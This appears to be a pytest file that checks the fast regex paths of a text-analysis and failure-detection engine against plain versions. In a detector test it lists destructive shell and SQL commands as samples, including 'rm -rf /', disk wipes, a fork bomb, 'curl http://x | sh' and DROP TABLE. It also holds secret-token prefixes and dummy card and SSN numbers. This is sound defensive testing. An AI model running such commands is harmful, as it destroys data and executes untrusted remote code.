"""The fast paths of the deterministic engine give exactly what the plain versions give."""

from __future__ import annotations

import re

import pytest

from collections import Counter

from valiqor_trace.analyzer.fa import facts, instructions, lang, source_index, text
from valiqor_trace.analyzer.fa.detectors import agent, compliance, leaks, retrieval, unsafe
from valiqor_trace.analyzer.fa.detectors.base import ItemView
from valiqor_trace.analyzer.fa.detectors.claims import SPECULATION, TOOL_CLAIM
from valiqor_trace.analyzer.fa.detectors import contradiction
from valiqor_trace.analyzer.fa.detectors.contradiction import NEGATION, check_source_contradiction
from valiqor_trace.analyzer.fa.detectors.retrieval import ABSTENTION
from valiqor_trace.analyzer.fa.models import EvidenceItem, FailureTag
from valiqor_trace.analyzer.fa.scoring import pass_tag
from valiqor_trace.analyzer.fa.text import FoldedPattern
from valiqor_trace.analyzer.models import FAItem

TEXTS = [
    "The drug has NO known interactions. It doesn't affect sleep.",
    "I Can't Browse the web, so I Assume the value is 42.",
    "Based on a careful SEARCH, the article does not mention the date.",
    "Nothing here: İstanbul, Kelvin \u212a, long \u017f, Straße, café NOT listed.",  # non-ASCII: the IGNORECASE path
    "no-one knows; none of it; without doubt; cannot; n't",
    "at 5\x1cpm, 17:30\x1fam; in 20\x1cwords; i\x1ccannot help_not no1 not2",  # \s matches \x1c-\x1f (re.ASCII's does not)
    "Safe, BUT not -- always; However yet--And whereas (x): Although butter, Andes and yeti.",
    "",
]


FOLDED = [NEGATION, contradiction._CLAUSE_BREAK, contradiction._IDIOM, contradiction._SOFT_NEGATION, contradiction._CONDITIONAL, ABSTENTION, SPECULATION, TOOL_CLAIM, facts._TIME_RE, facts._NUMBER_WORD_RE, compliance.REFUSAL,
          compliance._WORD_LIMIT, compliance._SENTENCE_LIMIT, compliance._YES_NO]


@pytest.mark.parametrize("folded", FOLDED)
def test_folded_patterns_find_the_same_spans_as_ignorecase(folded: FoldedPattern) -> None:
    plain = re.compile(folded.folded.pattern, re.IGNORECASE)
    for text in TEXTS:
        for start in range(len(text) + 1):  # every suffix: matches at every position, not just the first
            expected, got = plain.search(text[start:]), folded.search(text[start:])
            assert (got and got.span()) == (expected and expected.span()), (folded.folded.pattern[:40], text, start)


def test_folded_pattern_refuses_an_upper_case_literal() -> None:
    with pytest.raises(ValueError, match="lower case"):
        FoldedPattern(r"\bNot\b")
    assert FoldedPattern(r"\S+\W\bnot\B").search("is NOT!") is None  # escapes are allowed


def test_pass_tags_from_the_template_are_valid_and_independent() -> None:
    first = pass_tag("numeric_mismatch", 0.7, "numeric_grounding", item_index=3, run_id="run_a", trace_id="t1")
    second = pass_tag("numeric_mismatch", 0.7, "numeric_grounding", item_index=4, run_id="run_a")
    assert FailureTag.model_validate(first.model_dump()) == first
    assert (first.item_index, first.trace_id, second.item_index, second.trace_id) == (3, "t1", 4, None)
    assert first.tag_id != second.tag_id
    first.evidence_items.append(EvidenceItem(source="output", text="x"))  # a tag's evidence list is its own
    assert second.evidence_items == []
    assert list(first.model_dump()) == list(FailureTag.model_fields)


@pytest.mark.parametrize("folded", FOLDED)
def test_folded_finditer_finds_every_ignorecase_span(folded: FoldedPattern) -> None:
    plain = re.compile(folded.folded.pattern, re.IGNORECASE)
    samples = [*TEXTS, "At 5 PM, Two or THREE ... at 17:30 and 9am; in 50 Words; in TWO sentences; answer YES or NO",
               "I'm Sorry, but I CANNOT help with that. As an AI, I can't. Twenty-Two at 3 P.M."]
    for sample in samples:
        assert [m.span() for m in folded.finditer(sample)] == [m.span() for m in plain.finditer(sample)]


# Text that exercises the rewritten patterns: capitals after joiners and digits, bullets, brackets,
# camelCase, dates, digit runs, non-ASCII letters.
TRICKY = [
    "Dr. Smith met O'Neil-Jones and McDonald at 3 PM.\n- Paris (France) [EU]: 2021-03-04, 12021-03-04.\n"
    "1. Über Ölmann; x-Ray, don't Stop, 'Quoted' ’Curly’ _Under ÉCOLE São Paulo",
    "Call +1 (555) 123-4567 or 555.123.4567; card 4111 1111 1111 1111; IBAN DE89 3704 0044 0532 0130 00; "
    "ssn 123-45-6789; 12-34-5678",
    "OutdoorSeating iPhone eBay XMLHttpRequest aB Ab AB ab",
    "",
    "A",
    "\n\n  (Lead) [x] !? Hello:World 10:30 :45 7: 12:5 123:45 ab:12",
]


def test_rewritten_patterns_match_as_the_originals() -> None:
    originals = [
        (facts._CAPITALISED_RE, r"(?<![\w'’-])[A-ZÀ-ÖØ-Þ][^\W_]*(?:['’\-][^\W_]+)*"),
        (facts._SENTENCE_START_RE, r"(?:[.!?:]\s+|\n\s*(?:[-*•#>]+\s*|\d+[.)]\s*)?|[(\[]\s*)"),
        (facts._ISO_DATE_RE, r"([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})"),
    ]
    for fast, original in originals:
        for sample in TRICKY + TEXTS:
            assert [m.span() for m in fast.finditer(sample)] == [m.span() for m in re.finditer(original, sample)]
    digit_run = re.compile(r"\d[\d\s().+/-]{7,}\d|\d{2}-\d{2}-\d{4}|[A-Z]{2}\d{2}")
    camel_pair = re.compile(r"[a-z][A-Z]")
    for sample in TRICKY + TEXTS + ["12-34-5678", "DE89", "1234567", "12345678 9", "aB"]:
        assert any(p.search(sample) for p in leaks._DIGIT_RUNS) == bool(digit_run.search(sample)), sample
        assert bool(text._CAMEL_PAIR.search(sample)) == bool(camel_pair.search(sample)), sample


def _plain_clock_numbers(value: str) -> set[float]:
    found: set[float] = set()
    for i in (i for i, char in enumerate(value) if char == ":"):
        before, after = value[max(0, i - 2):i], value[i + 1:i + 3]
        hour = before[1:] if len(before) == 2 and not before[0].isdigit() else before
        minute = after[:1] if len(after) == 2 and not after[1].isdigit() else after
        if hour.isdigit() and minute.isdigit():
            found.update((float(hour), float(minute)))
    return found


def test_clock_numbers_look_at_every_colon_that_can_be_a_time() -> None:
    for sample in [*TRICKY, '{"a": 1, "b":2, "t": "17:30", "u":"7:5"}', "9:00-17:30, 1:2:3"]:
        assert source_index._clock_numbers(sample) == _plain_clock_numbers(sample)


def test_digits_that_are_not_decimal_are_not_times() -> None:
    # "²" is a digit to str.isdigit() but not a number to float(): it must not crash the numeric check.
    assert source_index._clock_numbers("x² : y, e=mc²:3, at ٣:٤٥") == {3.0, 45.0}


def test_clip_of_a_long_text_is_the_clip_of_the_whole_text() -> None:
    def plain(value: str, limit: int = 160) -> str:
        value = re.sub(r"\s+", " ", value).strip()
        return value if len(value) <= limit else value[: limit - 1] + "…"

    word = "lorem ipsum\n\t dolor "
    for sample in [word * 40, " " * 700 + "x", " " * 630 + word * 3, "a" + " " * 1000 + "b", "ab " * 214, "ab " * 215,
                   "\u2003".join(["x"] * 400), "y" * 5000, "\x1c\x85\xa0\u2028z " * 150, "a" * 159 + " " * 600,
                   "a" * 160 + " " * 600, "a" * 161 + "\n" * 600, "b " * 80 + " " * 480 + "c", " " * 641]:
        for limit in (160, 40, 10):
            assert text.clip(sample, limit) == plain(sample, limit)


def test_language_scores_are_the_counted_profile_words() -> None:
    def plain(tokens: list[str], share: float) -> tuple[str | None, float]:
        if len(tokens) < 5:
            return None, 0.0
        counts = Counter(tokens)
        hits = {code: sum(counts[w] for w in profile & counts.keys()) for code, profile in lang._PROFILES.items()}
        ranked = sorted(hits.items(), key=lambda kv: kv[1], reverse=True)
        (best, top), (_, second) = ranked[0], ranked[1]
        return (None, 0.0) if top < 2 or top < 1.5 * second else (best, min(1.0, share * (top - second) / max(4, top)))

    for sample in ["the cat is on the mat and it is fine", "el gato de la casa es muy grande y no se va",
                   "de kat is in het huis en de hond is er ook", "la la la de de en en que que", "le chat est la"]:
        tokens = sample.split()
        assert lang._latin(tokens, 0.9) == plain(tokens, 0.9)


def test_content_terms_are_the_stems_of_the_content_words() -> None:
    for sample in [*TRICKY, *TEXTS, "Seating seats seated, the interactions of 42 cats; I a an 7 OK"]:
        expected = frozenset(text.stem(t) for t in text.vocabulary(sample) - text.STOPWORDS
                             if len(t) >= 3 or t.isdigit())
        assert text.content_terms(sample) == expected


def test_negation_check_reads_each_sentence_as_a_whole_scan_would() -> None:
    source = "The drug interacts with alcohol. The drug causes drowsiness in adults."
    negated = FAItem(input="q", output="Fine. The drug has no interactions with alcohol. Done.", context=[source])
    plain = FAItem(input="q", output="The drug interacts with alcohol. Nothing else. Know it.", context=[source])
    found = check_source_contradiction(ItemView(negated, "rag"))
    assert [f.subcategory_id for f in found] == ["contradicts_source"]
    assert found[0].evidence[0].text == "The drug has no interactions with alcohol."
    assert check_source_contradiction(ItemView(plain, "rag")) == []  # "Nothing else." shares no terms


def test_ascii_tokenising_finds_the_unicode_pattern_tokens() -> None:
    pieces = ["a", "Bc", "9", "'", "-", "--", "''", "x-", "-y", "'s", " ", "\t", ".", "_", "\x1c", "\n", "don't"]
    cut_up = ["".join(pieces[(i * 5 + j * 7) % len(pieces)] for j in range(i % 11 + 1)) for i in range(600)]
    for sample in [*TRICKY, *TEXTS, "x_y a-b-c don't -lead trail- 'q' 3.14 A1-B2", "naïve café—über's", "\x1c\x1f",
                   "rock-'n'-roll well--known a - b 'quoted' -- it's e-mail x-'y", *cut_up]:
        normalized = text.normalize_quotes(sample)
        assert text.word_pattern(normalized).findall(normalized) == text.WORD_RE.findall(normalized)
        assert text.tokens(sample) == tuple(text.WORD_RE.findall(normalized))
        if sample.isascii():
            lowered = sample[:400].lower()
            assert lang._ASCII_WORD.findall(lowered) == lang._WORD.findall(lowered)


def test_quotes_and_joined_words_normalise_as_the_regex_versions() -> None:
    quotes = str.maketrans({"“": '"', "”": '"', "„": '"', "‘": "'", "’": "'", "–": "-", "—": "-"})
    joiner = re.compile(r"['’\-]")
    for sample in [*TRICKY, *TEXTS, "“A–B” ‘c’ — d’s", "rock-'n'-roll well--known it's e-mail"]:
        assert text.normalize_quotes(sample) == sample.translate(quotes)
        expected = set(text.words(sample))
        for word in [w for w in expected if "-" in w or "'" in w]:
            expected.update(joiner.split(word))
            expected.add(joiner.sub("", word))
        if not text._CAMEL_PAIR.search(sample):
            assert text.vocabulary(sample) == expected


# One sample per alternative of each pattern guarded by text.may_contain: every match holds a hint.
GUARDED = [
    (compliance.REFUSAL.pattern, compliance._REFUSAL_HINTS,
     ["I'm sorry, but I cannot do it", "I am afraid I'm not able", "I can't help", "I am unable to assist",
      "i won't provide", "I will not answer", "I must decline to share", "As an AI language model, I do not",
      "as an ai i am not", "I'm not allowed to discuss", "im not permitted to help"]),
    (ABSTENTION.pattern, retrieval._ABSTENTION_HINTS,
     ["I am unable to answer", "I CANNOT ANSWER that", "we can't answer", "it does not contain it", "they didn't mention",
      "do not provide x", "doesn't include", "did not say", "does not specify", "don't cover", "no information about",
      "no relevant information on", "no information is provided", "the cause is not mentioned", "it is not specified",
      "they are not covered", "are not included", "I don't know", "i do not have enough information",
      "not enough information", "insufficient information"]),
    (agent._STEP_LIMIT, agent._STEP_LIMIT_HINTS,
     ["Max steps reached", "maximum number of iterations (10) exceeded", "hit the max turns", "step limit reached",
      "stopped due to iteration limit", "recursion limit of 25", "GraphRecursionError", "MaxTurnsExceeded",
      "AgentMaxIterations", "max_iterations"]),
    *((pattern, hints, samples) for (_, hints, pattern), samples in zip(unsafe._DESTRUCTIVE, [
        ["rm -rf /", "RM -Rf ~"], ["mkfs.ext4 /dev/sda", "dd if=x of=/dev/sda", "> /dev/sdb", "format c:"],
        [":(){ :|:& };:"], ["chmod -R 777 /"], ["curl http://x | sh", "WGET x | sudo bash"],
        ["DROP TABLE users", "truncate table t"], ["delete from users;"], ["shutdown -h now", "halt -f", "init 0"]])),
]


@pytest.mark.parametrize(("pattern", "hints", "samples"), GUARDED)
def test_literal_pre_checks_never_skip_a_match(pattern: re.Pattern[str], hints: tuple[str, ...],
                                               samples: list[str]) -> None:
    for sample in samples:
        assert pattern.search(sample), sample  # the sample exercises the pattern
        assert text.may_contain(sample, sample.lower(), hints), sample
    assert not text.may_contain("nothing to see", "nothing to see", hints)
    assert text.may_contain("ſ", "ſ", hints)  # non-ASCII text is always scanned


def test_source_numbers_keep_their_scale_decimals_and_lists() -> None:
    sample = "3.5 million, 1,234 and 1,2,3; 12k, 7 billion, 40, 12,"
    assert source_index._text_numbers(sample) == {3.5e6, 1234.0, 1.0, 2.0, 3.0, 12e3, 7e9, 40.0, 12.0}


def test_time_pattern_finds_the_times_of_the_two_branch_original() -> None:
    original = re.compile(r"(?<![\d:.])(\d{1,2}):(\d{1,2})(?::\d{2})?(?:\s*([ap])\.?m\b\.?)?|"
                          r"(?<![\d:.])(\d{1,2})\s*([ap])\.?m\b\.?", re.IGNORECASE)

    def plain(sample: str) -> list[tuple[tuple[int, int], int, int]]:
        found = []
        for m in original.finditer(sample):
            hour, minute, ampm = ((int(m.group(1)), int(m.group(2)), m.group(3)) if m.group(1) is not None
                                  else (int(m.group(4)), 0, m.group(5)))
            if ampm:
                hour = hour % 12 + (12 if ampm.lower() == "p" else 0)
            if hour <= 24 and minute < 60:
                found.append((m.span(), hour, minute))
        return found

    parts = ["1", "12", "123", ":", ":3", ":45", " ", "AM", "pm", "a.m.", "P", "m", ".", "x", "\u0663", "\x1c", "-",
             "12:30:15", "9pm", "17:00"]
    samples = [*TRICKY, *TEXTS, "open 9:00-17:30, 5 PM, 12:5a.m., 1:2:3, 3.5pm, 10:30PM."]
    samples += ["".join(parts[(i * 7 + j * 3) % len(parts)] for j in range(i % 13 + 1)) for i in range(2000)]
    for sample in samples:
        assert [(m.start, m.end, m.value) for m in facts.extract_times(sample)] == [
            (s, e, (h % 24) * 60 + mi) for (s, e), h, mi in plain(sample)], sample


def test_number_words_are_the_regex_matches() -> None:
    words_re = re.compile(facts._NUMBER_WORD_RE.folded.pattern, re.IGNORECASE)
    samples = [*TRICKY, *TEXTS, "Two or THREE, twenty-two, network, two_x, 2two, often ten; Ten. ten", "seven-eleven",
               "ſix and two", "dozen eggs for a hundred", "twoten two"]
    for sample in samples:
        present = facts.NUMBER_WORDS.keys() & text.vocabulary(sample)
        expected = [(m.start(), m.end(), m.group(1).lower()) for m in words_re.finditer(sample)] if present else []
        assert facts.number_words(sample, present) == expected, sample


def test_secret_markers_are_the_prefix_alternation() -> None:
    prefix = re.compile(r"sk-|sk_live|rk_live|AKIA|ASIA|gh[pousr]_|github_pat_|xox|AIza|-----BEGIN|eyJ|Bearer")
    for sample in [*TRICKY, *TEXTS, "ghx_ gh_ ghr_1", "token: Bearer abc", "eyJhbGci", "xoxb-1", "risk-free ASIA"]:
        assert any(m in sample for m in leaks._SECRET_MARKERS) == bool(prefix.search(sample)), sample


SENTENCE_SAMPLES = [*TRICKY, *TEXTS, "  One. Two!  Three?\n\n Four\n.  . Five...six", "a.b.c. d e f"]


def test_sentences_at_are_the_sentences_holding_an_offset() -> None:
    for sample in SENTENCE_SAMPLES:
        for offsets in ([], [0], [len(sample)], list(range(0, len(sample) + 1, 3)), list(range(len(sample) + 2)),
                        [i for i, c in enumerate(sample) if c.isspace()], [len(sample) // 2, len(sample) - 1]):
            expected = [s for s in text.sentences(sample) if any(s[0] <= at < s[1] for at in offsets)]
            assert list(text.sentences_at(sample, sorted(set(offsets)))) == expected, (sample, offsets)


def _sentence(value: str, source: bool = True) -> contradiction._Sentence:
    return contradiction._Sentence(0, len(value), value, value, source=source)


def test_contradiction_sentence_flags_are_the_pattern_searches() -> None:
    for sample in [*TRICKY, *TEXTS[:-1], "Is it safe? Not all of it, unless asked.", "He refused to comment."]:
        sentence = _sentence(sample)
        assert sentence.conditional == bool(contradiction._CONDITIONAL.search(sample))
        assert sentence.soft == bool(contradiction._SOFT_NEGATION.search(sample))
        assert sentence.any_negation == bool(NEGATION.search(sample))
        after_negations = _sentence(sample)
        assert after_negations.negations is not None  # sets any_negation from its own scan
        assert after_negations.any_negation == bool(NEGATION.search(sample))
        assert sentence.probes == sorted(contradiction._probes(sample), key=len, reverse=True)[:contradiction._PROBES]


def _plain_extract(value: str, where: str) -> tuple[instructions.Instruction, ...]:
    """The instruction reader that searched each clause for a cue word on its own."""
    folded = value.lower()
    if not instructions._CUE.search(folded):
        return ()
    found = []
    for start, end in instructions._clauses(value):
        if not instructions._CUE.search(folded, start, end) or instructions._inside_quotes(value, start):
            continue
        for i in instructions._in_sentence(value[start:end], where):
            found.append(instructions.Instruction(i.kind, i.value, where, start + i.start, start + i.end, i.quote,
                                                  i.conditional))
    return tuple(found)


INSTRUCTION_SAMPLES = [
    "Always answer in German. Use a table! Do not mention pricing or discounts.\nKeep it under 50 words.",
    "You are helpful.\n\nPlease reply in French; never mention the competitor. Answer in two sentences?",
    "İİİ Answer in Spanish. Respond with a bulleted list. İ end with 'Have a nice day!'",
    "Kelvin \u212a: write in Dutch. Cite the source.answer in Italian...reply in German",
    'Task: "Answer in one word." Then answer in English.', "No cue here at all.", "", "...", "sign off with Bob",
]


def test_instructions_are_found_in_the_clauses_a_per_clause_cue_search_finds() -> None:
    for sample in [*INSTRUCTION_SAMPLES, *TRICKY, *TEXTS]:
        for where in ("system_prompt", "input"):
            assert instructions._extract.__wrapped__(sample, where) == _plain_extract(sample, where), sample


def _plain_probe(source: contradiction._SourceText, probe: str) -> list[int]:
    """The sentences a probe occurs in, followed occurrence by occurrence as the aligner did for each answer."""
    hits, (at, seen) = [], (source.lowered.find(probe), 0)
    while at != -1 and seen < contradiction._PROBE_LIMIT:
        i = source.at(at)
        if i >= 0:
            hits.append(i)
        at, seen = source.lowered.find(probe, source.ends[i] if i >= 0 else at + 1), seen + 1
    return hits


def test_kept_probe_hits_are_the_followed_occurrences() -> None:
    passage = ("Warfarin interacts with aspirin. WARFARIN and ibuprofen interact; warfarin, warfarin! " * 6 +
               "\n\n  The warfa dose. " + "Aspirin interacts. " * 20)
    for sample in [passage, *SENTENCE_SAMPLES]:
        source = contradiction._SourceText(sample)
        for probe in ("warfa", "inter", "aspir", "ibupr", "dose", "the", "a", "zzzzz", " "):
            assert list(source.probe(probe)) == _plain_probe(source, probe)
            assert source.probe(probe) is source.probe(probe)  # kept


def test_kept_opposite_words_are_read_afresh_and_never_changed() -> None:
    samples = ["The X200 is not waterproof and unsafe on wet floors.", "The X200 is waterproof and safe.",
               "It is reliable, not unreliable; the door is open.", "The unreliable pump is closed.",
               "The pump is reliable and open.", *TRICKY]
    for one in samples:
        for other in samples:
            answer, source = _sentence(one, source=False), _sentence(other)
            kept = (dict(answer.opposites), dict(source.opposites))
            got = contradiction._polarities(answer, source)
            assert kept == (contradiction._opposites(_sentence(one)), contradiction._opposites(_sentence(other)))
            assert got == contradiction._polarities(_sentence(one, source=False), _sentence(other))
            assert (answer.opposites, source.opposites) == kept  # the kept ones are never added to


def test_a_text_without_negation_words_has_no_negation() -> None:
    parts = ["not", "No", "never", "NONE", "nothing", "neither", "nor", "without", "cannot", "unable", "refused",
             "fails to", "lacking", "can't", "n't", "won’t", "-", "'", "_", "5", "x", " ", ".", "to", "knot", "note",
             "failure", "lack-", "nor-", "o'", "’"]
    samples = [*TRICKY, *TEXTS, "fail-safe, non-stop, a'not, not's, x-not, not5, _not, fail to, failed  to"]
    samples += [f"A {word} b." for word in (*contradiction._NEGATION_WORDS, "fail to", "fails to", "failed to", "isn't")]
    samples += ["".join(parts[(i * 7 + j * 5) % len(parts)] for j in range(i % 9 + 1)) for i in range(3000)]
    skipped = 0
    for sample in samples:
        if not contradiction._may_negate(sample, sample.lower()):
            skipped += 1
            assert NEGATION.search(sample) is None, sample
    assert skipped > 100  # the test exercises the skip


def test_mentions_built_without_init_are_the_dataclass_ones() -> None:
    args = [("number", "12", 3, 5, 12.0, 1, False), ("entity", "Game Grumps", 0, 11, ("game", "grumps")),
            ("quote", "a b", 1, 4)]
    for values in args:
        fast, plain = facts._mention(*values), facts.Mention(*values)
        assert (fast, hash(fast), repr(fast), vars(fast)) == (plain, hash(plain), repr(plain), vars(plain))
